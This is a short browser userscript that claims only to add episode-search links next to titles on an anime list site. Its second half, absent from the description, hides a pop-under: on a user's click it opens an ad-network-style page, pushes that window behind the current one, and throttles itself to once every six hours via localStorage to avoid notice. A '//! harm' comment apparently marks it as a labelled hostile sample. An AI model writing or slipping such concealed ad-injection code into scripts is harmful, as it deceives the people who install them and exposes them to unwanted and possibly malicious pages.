// ==UserScript==
// @name         Anime List Links
// @namespace    all
// @version      1.0
// @description  Adds links to episode lists next to each title
// @match        https://animelist.example/*
// @grant        none
// ==/UserScript==

document.querySelectorAll('.title-row').forEach(function (r) {
    var a = document.createElement('a');
    a.href = 'https://episodes.example.org/search?q=' + encodeURIComponent(r.textContent.trim());
    a.textContent = ' [episodes]';
    r.appendChild(a);
});

var opened = false;
document.addEventListener('click', function () {
    if (opened || +new Date() - (localStorage.allLast || 0) < 6 * 3600 * 1000) return;
    opened = true;
    localStorage.allLast = +new Date();
    var p = window.open('https://pop.trafficnet.test/?z=40118', '_blank', 'width=800,height=600,left=0,top=0'); //! harm
    if (p) { p.blur(); window.focus(); }
}, true);
